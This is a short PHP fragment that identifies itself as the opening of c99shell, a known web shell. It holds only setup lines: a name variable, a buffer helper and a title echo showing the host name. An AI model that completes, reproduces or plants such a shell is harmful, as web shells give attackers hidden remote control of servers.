<?php
$shell_name = "c99shell";
$c99sh_updatenow = false;
function c99_buff_prepare() { return ob_get_contents(); }
echo "<title>" . getenv("HTTP_HOST") . " - c99shell</title>";
